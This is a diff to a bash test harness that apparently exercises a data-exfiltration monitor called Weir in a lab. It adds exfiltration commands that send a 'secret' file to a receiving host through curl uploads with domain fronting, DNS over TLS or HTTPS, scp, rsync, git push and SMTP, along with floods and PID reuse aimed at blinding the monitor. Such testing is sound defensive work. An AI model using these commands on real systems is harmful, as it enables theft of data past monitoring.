@@ -2,6 +2,7 @@
 # can to $to, as $person. N and A are the numbers of docs/limits.md; W are ways to hand bytes to the kernel.
 # shellcheck shell=bash disable=SC2154
 
+in_url() { if [[ $family == 4 ]]; then echo "$to"; else echo "[$to]"; fi; }
 traffic() { by "$TRAFFIC" --to "$to" --port $PORT --bytes 1048576 --ms "$way_ms" "$@"; }
 tcp_address() { if [[ $family == 4 ]]; then echo "TCP4:$to:$PORT"; else echo "TCP6:[$to]:$PORT"; fi; }
 a_megabyte() { head -c 1048576 /dev/zero; }
@@ -10,11 +11,21 @@ a_megabyte() { head -c 1048576 /dev/zero; }
 attack N1 "4" names_in_questions "data in the names of DNS questions"
 names_in_questions() { by /usr/bin/python3 "$LAB/ways.py" names "$to"; }
 
+attack N2.1 "4 6" names_in_tls "the same over TLS, to one's own resolver"
+names_in_tls() { by /usr/bin/python3 "$LAB/ways.py" names_in_tls "$to" 853; }
+attack N2.2 "4 6" names_in_https "the same over HTTPS, to one's own resolver"
+names_in_https() { by /usr/bin/python3 "$LAB/ways.py" names_in_https "$to" 443; }
+
 attack N3 "4 6" echo_requests "ICMP echo with data (root)"
 echo_requests() { by_root /usr/bin/python3 "$LAB/ways.py" icmp "$to"; }
 
 attack N4 "4 6" datagrams_443 "datagrams to port 443, as QUIC"
 datagrams_443() { by /usr/bin/python3 "$LAB/ways.py" udp "$to" 443; }
+
+attack N5.1 "4 6" no_name "an upload over TLS without a name (curl)"
+no_name() { by curl -skT "$LAB/secret" --max-time 4 "https://$(in_url)/"; }
+attack N5.2 "4 6" borrowed_name "an upload over TLS with a name that is not the certificate's (curl)"
+borrowed_name() { by curl -skT "$LAB/secret" --max-time 4 --connect-to "::$(in_url):443" https://www.debian.org/; }
 
 attack N7.1 "4" mapped_stream "a stream to the IPv4-mapped address"
 mapped_stream() { by /usr/bin/python3 "$LAB/ways.py" v4_mapped "$to"; }
@@ -36,6 +47,28 @@ attack N9.3 "4 6" frames "frames by a packet socket (root)"
 frames() { warm_neighbour; by_root /usr/bin/python3 "$LAB/ways.py" frames "$to"; }
 attack N9.4 "4 6" frames_past_queue "frames past the queueing discipline (root)"
 frames_past_queue() { warm_neighbour; by_root /usr/bin/python3 "$LAB/ways.py" frames_past_queue "$to"; }
+
+attack N11.1 "4 6" by_scp "scp to a server of one's own"
+by_scp() {
+  install -m 400 -o "$person" "$LAB/etc/key" "$LAB/key-$person"
+  echo "p$person:x:$person:$person::/tmp:/bin/sh" >>"$LAB/etc/passwd" # ssh asks who it is
+  by scp -O -P 2222 -i "$LAB/key-$person" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null \
+    "$LAB/secret" "inbox@$(in_url):scp"
+}
+attack N11.2 "4 6" by_rsync "rsync to a server of one's own"
+by_rsync() { by rsync --timeout=4 "$LAB/secret" "rsync://$(in_url)/inbox/$person-${weir_pid:-0}"; }
+attack N11.3 "4 6" by_push "git push to a server of one's own"
+by_push() {
+  local repository=$LAB/push-$person-${weir_pid:-0}
+  install -d -o "$person" "$repository"
+  by git -C "$repository" -c init.defaultBranch=main init -q
+  by cp "$LAB/secret" "$repository/"
+  by git -C "$repository" add secret
+  by git -C "$repository" -c user.name=x -c user.email=x@example.org commit -qm x
+  by git -C "$repository" push -q "git://$(in_url)/inbox.git" "HEAD:refs/heads/$person-${weir_pid:-0}"
+}
+attack N11.4 "4 6" by_mail "a mail with an attachment, straight to a server of one's own"
+by_mail() { by curl -sT "$LAB/secret.txt" --max-time 4 --mail-from a@example.org --mail-rcpt b@example.org "smtp://$(in_url):2525"; }
 
 attack N14 "4 6" drip "one connection that grows in small writes"
 drip() { by /usr/bin/python3 "$LAB/ways.py" drip "$to"; }
@@ -81,6 +114,9 @@ multipath() { traffic --multipath; }
 attack W10 "4 6" passed "a connected socket that is handed to another process"
 passed() { by /usr/bin/python3 "$LAB/ways.py" passed "$to"; }
 
+attack W13 "4 6" by_cork "corked datagrams whose socket has no port any more when they leave"
+by_cork() { by /usr/bin/python3 "$LAB/ways.py" corked "$to"; }
+
 # ---- against Weir itself ------------------------------------------------------------------------
 attack A1 "4 6" killed "guard, engine and weir run killed with -9 in the middle; then started again (root)"
 killed() {
@@ -116,6 +152,24 @@ detached() {
   if under_weir; then lab_wait_for 5 reported_more_than "$before"; fi
 }
 reported_more_than() { (($(reported) > $1)); }
+attack A10 "4 6" flooded "while the engine is flooded with events: programs and questions on loopback"
+flooded() {
+  local i
+  for i in 1 2; do by /usr/bin/python3 "$LAB/ways.py" events 127.0.0.1 53 & done
+  sleep 1
+  by "$TRAFFIC" --to "$to" --port $PORT --shape flows --count 20 --bytes 65536 --ms 2000
+  wait_for_attack
+  if under_weir && ! lab_wait_for 10 is_reported; then echo "nothing was reported of person $person" >"$LAB/weir/$1.fault"; fi
+}
+is_reported() { grep -q "\"uid\":$person\b" "$LAB/state/reports.jsonl"; }
+attack A12.1 "4 6" many_processes "1,500 processes at once, each with a connection"
+many_processes() { by "$TRAFFIC" --to "$to" --port $PORT --shape forks --count 1500 --bytes 65536 --ms 3000; }
+attack A12.2 "4 6" many_sockets "as many sockets as a process may have, then each is used"
+many_sockets() { by prlimit --nofile=20000:20000 /usr/bin/python3 "$LAB/ways.py" many_sockets "$to"; }
+attack A13 "4 6" same_number "programs with the process id of another person's program that ended (root)"
+same_number() {
+  by_root /usr/bin/python3 "$LAB/ways.py" same_number "$to" $PORT "$(by_colleague sh -c 'echo $$')"
+}
 under_weir() { [[ -n ${weir_pid:-} ]]; }
 harm() {
   local pid
@@ -123,6 +177,7 @@ harm() {
 }
 
 # ---- what they need ------------------------------------------------------------------------------
+wait_for_attack() { while pgrep -U "$person" >/dev/null; do sleep 0.1; done; }
 namespace_up() {
   lab_holder behind
   lab_net desk ip link add weir-ns type veth peer name eth0 netns "$LAB_NS_behind"
